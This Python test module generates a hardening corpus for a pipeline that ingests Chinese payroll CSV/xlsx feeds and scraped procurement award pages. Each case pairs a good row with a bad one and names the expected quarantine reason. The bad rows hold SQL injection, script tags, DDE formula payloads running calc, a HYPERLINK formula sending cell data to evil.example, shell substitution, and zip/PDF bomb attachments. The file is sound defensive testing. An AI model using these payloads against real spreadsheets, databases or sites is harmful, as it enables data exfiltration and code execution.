"""The bad-input corpus: every case is generated here at test time, served or dropped like real
input, then crawled and built for real (tests/hardening/test_bad_input_corpus.py).

A case names what it feeds in, the outcome it must get (`reason` of its quarantine entry, or
`flagged` / `removed` / `read` / `hashed`), a `token` that must never reach core.* or marts.*, and
the good row of the same file that must still load.
"""

from __future__ import annotations

import codecs
import csv
import html
import io
from dataclasses import dataclass
from pathlib import Path

from bad_inputs import (
    deep_award,
    deep_tables_award,
    html_page,
    pdf,
    pdf_stream_bomb,
    srdi_xlsx,
    xlsx,
    xlsx_bomb,
    xlsx_far_cell,
)

PAYROLL_HEADER = ["代发单位名称", "统一社会信用代码", "开户网点", "代发人数", "月代发金额(元)", "代发月数", "联系人",
                  "联系人身份证号"]
# Trade names (字号) far apart, so no two good names are typo-siblings.
TRADE = ["云杉", "海棠", "松涛", "青柠", "白鹭", "金穗", "远航", "星河", "明珠", "翠湖", "春晖", "朗月", "雪峰",
         "锦绣", "天禾", "东篱", "南山", "北辰", "西岭", "碧波", "丹枫", "紫藤", "银杏", "长风", "晨曦", "暮雨",
         "秋实", "冬青", "夏荷", "山岚", "溪石", "林泉", "霞光", "虹桥", "曙光", "鸿雁", "骏马", "麒麟", "凤鸣",
         "龙腾", "虎跃", "鹤影", "鲲鹏", "蓝鲸", "赤城", "黄岩", "绿洲", "橙果", "红枫", "墨竹",
         "琥珀", "珊瑚", "翡翠", "玛瑙", "水晶", "钻石", "黄金", "白银", "青铜", "黑曜", "赭石", "靛蓝", "绯红",
         "鹅黄", "藏青", "象牙", "乌木", "檀香", "沉香", "桂花", "茉莉", "牡丹", "芍药", "海棉", "芦苇", "蒲公",
         "仙鹤", "孔雀", "鸳鸯", "喜鹊"]


@dataclass
class Case:
    id: str
    channel: str  # feed | page | attachment | list | crawl
    what: str  # what the input is, for the README table
    expect: str  # the quarantine reason, or flagged / removed / read / hashed
    token: str | None = None  # must never reach core.* / marts.*
    good: str | None = None  # a good name from the same file that must load
    where: str = ""  # feed file ("payroll/x.csv") or URL path ("/p/x.htm") of the case


def person_id(n: int) -> str:
    """A valid 18-digit resident ID number (check digit per GB 11643), distinct per n."""
    body = f"3301061985{n:04d}{n % 1000:03d}"[:17]
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, weights)) % 11]


PEOPLE = [(f"测试联系人{chr(0x4e00 + 300 + i)}{chr(0x4e00 + 900 + i)}", person_id(i)) for i in range(60)]


class Corpus:
    def __init__(self, root: Path):
        self.root = root
        self.inbox = root / "data" / "inbox"
        self.site = root / "site"
        self.cases: list[Case] = []
        self._trade = iter(TRADE)
        self._person = iter(PEOPLE)
        self.award_pages: list[str] = []
        self.list_pages: list[str] = []
        self.attachment_links: list[str] = []

    # -- helpers --------------------------------------------------------------------------------
    def good_name(self, city: str = "杭州", industry: str = "科技") -> str:
        return f"{city}{next(self._trade)}{industry}有限公司"

    def payroll_row(self, name: str, **override) -> list[str]:
        contact, id_number = next(self._person)
        row = {"name": name, "uscc": "", "branch": "杭州分行", "headcount": "12", "amount": "80000", "months": "6",
               "contact": contact, "id": id_number, **override}
        return [row["name"], row["uscc"], row["branch"], row["headcount"], row["amount"], row["months"],
                row["contact"], row["id"]]

    def write_feed(self, feed: str, filename: str, header: list[str], rows: list[list[str]], encoding="utf-8") -> str:
        path = self.inbox / feed / filename
        path.parent.mkdir(parents=True, exist_ok=True)
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows([header, *rows])
        path.write_bytes(buffer.getvalue().encode(encoding))
        return f"{feed}/{filename}"

    def site_file(self, rel: str, body: bytes) -> str:
        path = self.site / rel.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body)
        return "/" + rel.lstrip("/")

    # -- feed cases -----------------------------------------------------------------------------
    def feed_row_case(self, case_id: str, what: str, bad_name: str, expect: str, token: str | None, **override):
        good = self.good_name()
        where = self.write_feed("payroll", f"{case_id}.csv", PAYROLL_HEADER,
                                [self.payroll_row(good), self.payroll_row(bad_name, **override)])
        self.cases.append(Case(case_id, "feed", what, expect, token, good, where))

    def feed_file_case(self, case_id: str, what: str, filename: str, body: bytes, expect: str, token=None):
        path = self.inbox / "payroll" / filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body)
        self.cases.append(Case(case_id, "feed", what, expect, token, None, f"payroll/{filename}"))

    # -- page cases -----------------------------------------------------------------------------
    def award_case(self, case_id: str, what: str, winner: str, expect: str, token: str | None,
                   amount: str = "1000元", good: str | None = None):
        buyer = self.good_name(industry="物业")  # the good mention of the same page
        body = html_page(f"<p>项目名称：{case_id}项目</p><p>采购人：{html.escape(buyer)}</p>"
                         f"<p>中标供应商名称：{html.escape(winner)}</p><p>中标金额：{amount}</p>",
                         title=f"{case_id}项目中标结果公告")
        where = self.site_file(f"p/{case_id}.htm", body)
        self.award_pages.append(where)
        self.cases.append(Case(case_id, "page", what, expect, token, good or buyer, where))

    def encoded_award_case(self, case_id: str, what: str, encoding: str, expect: str = "read", meta: str = "utf-8",
                           bom: bytes = b""):
        """A good award notice in `encoding` (BOM included where the codec writes one)."""
        winner = self.good_name()
        text = html_page(f"<p>项目名称：{case_id}项目</p><p>中标供应商名称：{winner}</p><p>中标金额：1000元</p>",
                         title=f"{case_id}项目中标结果公告").decode().replace("charset='utf-8'", f"charset='{meta}'")
        self.raw_page_case(case_id, what, bom + text.encode(encoding), expect, good=winner)

    def raw_page_case(self, case_id: str, what: str, body: bytes, expect: str, good: str | None = None,
                      token: str | None = None, suffix: str = "htm"):
        where = self.site_file(f"p/{case_id}.{suffix}", body)
        self.award_pages.append(where)
        self.cases.append(Case(case_id, "page", what, expect, token, good, where))

    def attachment_case(self, case_id: str, what: str, filename: str, body: bytes | None, expect: str):
        where = f"/a/{filename}"
        if body is not None:
            self.site_file(where, body)
        self.attachment_links.append(where)
        self.cases.append(Case(case_id, "attachment", what, expect, None, None, where))

    def list_case(self, case_id: str, what: str, rel: str, body: bytes, expect: str, good=None, token=None):
        where = self.site_file(rel, body)
        self.list_pages.append(where)
        self.cases.append(Case(case_id, "list", what, expect, token, good, where))

    def index(self, rel: str, links: list[str], title: str = "公告列表") -> None:
        items = "".join(f"<li><a href='{href}'>公告{i}</a></li>" for i, href in enumerate(links))
        self.site_file(rel, f"<html><head><meta charset='utf-8'><title>{title}</title></head><body>"
                            f"<ul class='news-list'>{items}</ul></body></html>".encode())


def build_corpus(root: Path) -> Corpus:
    c = Corpus(root)
    # -- internal feeds: one good row and one bad row per file (the good one must load) ---------
    c.feed_row_case("feed_sql", "SQL injection as employer name", "'); DROP TABLE core.companies; --",
                    "bad_characters", "DROP TABLE")
    c.feed_row_case("feed_script", "<script> in employer name", "<script>alert(1)</script>杭州某科技有限公司",
                    "markup", "<script")
    c.feed_row_case("feed_cmd", "=cmd|… DDE formula", "=cmd|' /C calc'!A0", "formula_prefix", "cmd|")
    c.feed_row_case("feed_plus", "+1+cmd|… formula", "+1+cmd|' /C calc'!A0杭州某公司", "formula_prefix", "+1+cmd")
    c.feed_row_case("feed_minus", "-2+3+cmd|… formula", "-2+3+cmd|' /C calc'!A0", "formula_prefix", "-2+3+cmd")
    c.feed_row_case("feed_at", "@SUM(…) formula", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_prefix", "@SUM")
    c.feed_row_case("feed_hyperlink", "=HYPERLINK exfiltration formula",
                    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "formula_prefix", "HYPERLINK")
    c.feed_row_case("feed_tab", "tab then formula", "\t=1+1杭州某公司", "formula_prefix", "=1+1")
    c.feed_row_case("feed_zero_width", "zero-width space inside a name", "杭州某\u200b科技有限公司",
                    "control_characters", "\u200b")
    c.feed_row_case("feed_bidi", "right-to-left override (reversed display)", "\u202e司公限有技科某州杭",
                    "control_characters", "\u202e")
    c.feed_row_case("feed_entity", "HTML entities in a name", "杭州&lt;b&gt;某科技有限公司", "markup", "&lt;")
    c.feed_row_case("feed_template", "template injection {{…}}", "杭州{{7*7}}科技有限公司", "bad_characters", "{{7*7}}")
    c.feed_row_case("feed_shell", "shell substitution $(…)", "杭州$(id)科技有限公司", "bad_characters", "$(id)")
    c.feed_row_case("feed_long", "name of 86 characters", "杭州" + "长" * 80 + "有限公司", "not_a_name", "长" * 80)
    c.feed_row_case("feed_digits", "a number as a name", "1234567890", "not_a_name", None)
    c.feed_row_case("feed_empty_name", "empty employer name", "", "empty_name", None)
    c.feed_row_case("feed_amount", "amount in words", c.good_name(), "bad_number", None, amount="约三万")
    c.feed_row_case("feed_headcount", "fractional headcount", c.good_name(), "bad_number", None, headcount="3.5")
    c.feed_row_case("feed_person_id", "18-digit ID number with a wrong check digit as employer", "330106198501010011",
                    "not_a_name", "330106198501010011")
    c.feed_row_case("feed_replacement_char", "employer holding U+FFFD (a bad export decode)", "宁波\ufffd\ufffd贸易有限公司",
                    "damaged_text", "\ufffd\ufffd贸易")
    c.feed_row_case("feed_nul", "NUL byte inside an employer name", "宁波\x00贸易有限公司", "control_characters",
                    "\x00贸易")
    good = c.good_name()
    bad_uscc_name = c.good_name()
    where = c.write_feed("payroll", "feed_bad_uscc.csv", PAYROLL_HEADER,
                         [c.payroll_row(good), c.payroll_row(bad_uscc_name, uscc="91330106MA2B3C4D5X")])
    c.cases.append(Case("feed_bad_uscc", "feed", "USCC with a wrong check character", "flagged", None, good, where))
    good = c.good_name()
    where = c.write_feed("credit_customers", "feed_bool.csv", ["客户名称", "统一社会信用代码", "贷款产品", "贷款余额(元)", "是否逾期"],
                         [[good, "", "信用贷", "100000", "否"], [c.good_name(), "", "信用贷", "5000", "也许"]])
    c.cases.append(Case("feed_bool", "feed", "yes/no column saying 也许", "bad_bool", None, good, where))
    good = c.good_name()
    where = c.write_feed("open_applications", "feed_date.csv", ["客户名称", "统一社会信用代码", "申请日期", "申请产品"],
                         [[good, "", "2026-10-01", "政采贷"], [c.good_name(), "", "2026-13-45", "政采贷"]])
    c.cases.append(Case("feed_date", "feed", "impossible date 2026-13-45", "bad_date", None, good, where))
    good = c.good_name()
    where = c.write_feed("payroll", "feed_gbk.csv", PAYROLL_HEADER,
                         [c.payroll_row(good), c.payroll_row("<script>alert(2)</script>宁波某贸易有限公司")], "gbk")
    c.cases.append(Case("feed_gbk", "feed", "GBK-encoded file with a <script> name", "markup", "alert(2)", good, where))
    c.feed_file_case("feed_zero_bytes", "0-byte file", "feed_zero_bytes.csv", b"", "empty_file")
    c.feed_file_case("feed_bom_only", "file with only a BOM and a newline", "feed_bom_only.csv", b"\xef\xbb\xbf\r\n",
                     "empty_file")
    c.feed_file_case("feed_wrong_columns", "export with other columns", "feed_wrong_columns.csv",
                     "姓名,电话\n张三,13800000000\n".encode(), "wrong_columns")
    c.feed_file_case("feed_corrupt_xlsx", "random bytes named .xlsx", "feed_corrupt_xlsx.xlsx",
                     b"PK\x03\x04 this is not a workbook" * 10, "unreadable_file")
    c.feed_file_case("feed_xlsx_bomb", "xlsx expanding to 100 MB", "feed_xlsx_bomb.xlsx",
                     xlsx_bomb(100), "zip_bomb")
    good = c.good_name()
    path = c.inbox / "payroll" / "feed_xlsx_hostile.xlsx"
    path.write_bytes(xlsx([PAYROLL_HEADER, c.payroll_row(good), c.payroll_row("=cmd|' /C notepad'!A0")]))
    c.cases.append(Case("feed_xlsx_hostile", "feed", "xlsx row with a =cmd formula name", "formula_prefix", "notepad", good,
                        "payroll/feed_xlsx_hostile.xlsx"))
    good = c.good_name()
    path = c.inbox / "payroll" / "feed_xlsx_formula_cell.xlsx"
    path.write_bytes(xlsx([PAYROLL_HEADER, c.payroll_row(good), c.payroll_row('=HYPERLINK("http://evil.example","x")')],
                          live_formulas=True))
    c.cases.append(Case("feed_xlsx_formula_cell", "feed", "xlsx with a live formula cell as the name (no cached value)",
                        "empty_name", "evil.example", good, "payroll/feed_xlsx_formula_cell.xlsx"))
    removed = c.good_name()
    where = c.write_feed("payroll", "feed_removed.csv", PAYROLL_HEADER, [c.payroll_row(removed)])
    c.cases.append(Case("feed_removed", "feed", "export deleted from the inbox after a build", "removed", removed, None, where))
    c.cases.append(Case("feed_clear_pii", "feed", "clear contact names and ID numbers in every payroll row", "hashed"))

    # -- scraped pages: one good mention (the purchaser) and one hostile winner per page --------
    c.award_case("page_cmd", "winner =cmd|… on a notice", "=cmd|' /C calc'!A0杭州某有限公司", "formula_prefix", "cmd|")
    c.award_case("page_plus", "winner +1+cmd|…", "+1+cmd|' /C calc'!A0有限公司", "formula_prefix", "+1+cmd")
    c.award_case("page_at", "winner @SUM(…)", "@SUM(1+1)杭州某有限公司", "formula_prefix", "@SUM")
    c.award_case("page_template", "winner with {{…}}", "杭州{{7*7}}科技有限公司", "bad_characters", "{{7*7}}")
    c.award_case("page_sql_comment", "winner with ;-- and a statement", "杭州某科技有限公司;--DROP TABLE x有限公司",
                 "bad_characters", "DROP TABLE x")
    c.award_case("page_sql_statement", "winner that is a SQL statement", "DROP TABLE companies有限公司", "sql_fragment",
                 "DROP TABLE companies")
    c.award_case("page_union", "winner with UNION SELECT", "杭州 UNION SELECT name FROM users有限公司", "sql_fragment",
                 "UNION SELECT")
    c.award_case("page_pipe", "winner with a pipe command", "杭州某|calc科技有限公司", "bad_characters", "|calc")
    name = c.good_name()
    c.raw_page_case("page_deep_3000", "notice nested 3,000 levels deep", deep_award(3000, name), "deep_nesting")
    name = c.good_name()
    c.raw_page_case("page_deep_300", "notice nested 300 levels deep (read)", deep_award(300, name), "read", good=name)
    name = c.good_name()
    c.raw_page_case("page_deep_20000", "notice nested 20,000 levels deep", deep_award(20000, name), "deep_nesting")
    name = c.good_name()
    c.raw_page_case("page_tables_600", "notice in tables nested 600 deep (the walker recursed)",
                    deep_tables_award(600, name), "deep_nesting")
    name = c.good_name()
    c.raw_page_case("page_tables_20000", "notice in tables nested 20,000 deep", deep_tables_award(20000, name),
                    "deep_nesting")
    name = c.good_name()
    c.raw_page_case("page_tables_40", "notice in tables nested 40 deep (read)", deep_tables_award(40, name), "read",
                    good=name)
    c.raw_page_case("page_empty", "0-byte notice page", b"", "empty_page")
    c.award_pages.append("/p/page_missing.htm")
    c.cases.append(Case("page_missing", "page", "notice link answering 404", "http_404", where="/p/page_missing.htm"))
    buyer = c.good_name(industry="物业")
    filler = "<p>" + "本项目公告正文。" * 40 + "</p>"
    body = html_page(f"<p>采购人：{buyer}</p><p>中标供应商名称：{c.good_name()}</p>" + filler * 5200,
                     title="page_oversized项目中标结果公告")
    c.raw_page_case("page_oversized", "notice of 1.6 M characters (read in part)", body, "oversized_page", good=buyer)

    # -- round two (issue 22): damaged names, absurd amounts, encodings ----------------------
    c.award_case("page_replacement_char", "winner holding U+FFFD (宁波�空字节有限公司)", "宁波\ufffd空字节有限公司",
                 "damaged_text", "空字节")
    buyer = c.good_name(industry="物业")
    body = html_page(f"<p>项目名称：page_nul_byte项目</p><p>采购人：{buyer}</p><p>中标供应商名称：宁波\x00零字节有限公司</p>"
                     "<p>中标金额：1000元</p>", title="page_nul_byte项目中标结果公告")
    c.raw_page_case("page_nul_byte", "winner with a NUL byte in the page (the parser makes it U+FFFD)", body,
                    "damaged_text", good=buyer, token="零字节")
    buyer = c.good_name(industry="物业")
    body = (f"<html><head><meta charset='gbk'><title>page_bad_gbk项目中标结果公告</title></head><body>"
            f"<p>采购人：{buyer}</p><p>中标供应商名称：宁波").encode("gbk") + b"\xff\xff" + \
        "坏字节有限公司</p><p>中标金额：1000元</p></body></html>".encode("gbk")
    c.raw_page_case("page_bad_gbk", "GBK page with undecodable bytes inside the winner", body, "damaged_text",
                    good=buyer, token="坏字节")
    for case_id, what, amount, token in (
            ("page_amount_1e30", "award of 99999999999999999999999999万元", "99999999999999999999999999万元", "e+30"),
            ("page_amount_negative", "award of -7.31元 (the sign was dropped)", "-7.31元", "-7.31"),
            ("page_amount_negative_yen", "award of ￥-1,234.56", "￥-1,234.56", "-1234.56"),
            ("page_amount_2e11", "award of 2000亿元 (above 10^11 yuan)", "2000亿元", "200000000000"),
            ("page_amount_inf", "award of a 400-digit number (infinite as a float)", "9" * 400 + "元", None),
            ("page_amount_capital", "award of 壹万亿元整 in 大写 numerals", "壹万亿元整", "1000000000000")):
        winner = c.good_name(industry="建设")
        c.award_case(case_id, what, winner, "implausible_amount", token, amount=amount, good=winner)
    c.encoded_award_case("page_utf16_le", "UTF-16 (LE, BOM) notice", "utf-16")
    c.encoded_award_case("page_utf16_be", "UTF-16 (BE, BOM) notice", "utf-16-be", bom=codecs.BOM_UTF16_BE)
    c.encoded_award_case("page_utf32", "UTF-32 (BOM) notice", "utf-32")
    c.encoded_award_case("page_utf16_no_bom", "UTF-16 (LE) notice without a BOM", "utf-16-le")
    c.encoded_award_case("page_utf16_lying_meta", "UTF-16 notice whose meta says gb2312", "utf-16", meta="gb2312")

    # -- attachments linked from one notice ---------------------------------------------------
    c.attachment_case("att_xlsx_bomb", "xlsx attachment expanding to 100 MB", "bomb.xlsx", xlsx_bomb(100), "zip_bomb")
    c.attachment_case("att_far_cell", "xlsx with a cell at XFD1048576", "far.xlsx", xlsx_far_cell(), "sheet_too_large")
    c.attachment_case("att_pdf_pages", "PDF of 301 pages", "long.pdf", pdf(301), "pdf_page_limit")
    c.attachment_case("att_pdf_bomb", "PDF whose stream inflates to 300 MB", "bomb.pdf", pdf_stream_bomb(300),
                      "pdf_bomb")
    c.attachment_case("att_pdf_corrupt", "truncated PDF", "broken.pdf", b"%PDF-1.4\n1 0 obj <<", "corrupt_attachment")
    c.attachment_case("att_empty", "0-byte xlsx", "empty.xlsx", b"", "corrupt_attachment")
    holder = c.good_name(industry="物业")
    c.raw_page_case("page_with_attachments", "notice linking the attachments above", html_page(
        f"<p>采购人：{holder}</p><p>中标供应商名称：{c.good_name()}</p>"
        + "".join(f"<a href='{href}'>附件{i}</a>" for i, href in enumerate(c.attachment_links)),
        title="附件项目中标结果公告"), "read", good=holder)

    # -- lists ----------------------------------------------------------------------------------
    good = c.good_name(industry="精密")
    c.list_case("list_xlsx_hostile", "xlsx list with a =cmd name among good ones", "l/list.xlsx",
                srdi_xlsx([good, "=cmd|' /C calc'!A0精密有限公司", c.good_name(industry="精密")]),
                "formula_prefix", good=good, token="cmd|")
    # -- anti-bot -------------------------------------------------------------------------------
    from hostile_site import CHALLENGES

    c.site_file("c/challenge.htm", CHALLENGES["vendor"].encode())
    c.cases.append(Case("crawl_challenge", "crawl", "20 KB challenge page served with HTTP 200", "blocked",
                        where="/c/challenge.htm"))

    c.index("p/index.htm", c.award_pages)
    c.index("l/index.htm", c.list_pages, title="名单")
    c.index("c/index.htm", ["challenge.htm"])
    return c


SOURCES = {
    "corpus_awards": ("procurement_award", "127.0.0.1", "p/index.htm"),
    "corpus_lists": ("srdi_list", "127.0.0.1", "l/index.htm"),
    "corpus_challenge": ("procurement_award", "localhost", "c/index.htm"),
}


def write_sources(folder: Path, base_url: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for source_id, (kind, host, index) in SOURCES.items():
        base = base_url.replace("127.0.0.1", host)
        (folder / f"{source_id}.yaml").write_text(
            f"id: {source_id}\nkind: {kind}\nregion: 浙江省\nstart_urls: ['{base}/{index}']\n"
            "list: {item_links: 'ul.news-list li a::attr(href)'}\n"
            "politeness: {download_delay: 0, concurrency: 8, download_timeout: 10, retry_times: 0}\n",
            encoding="utf-8")
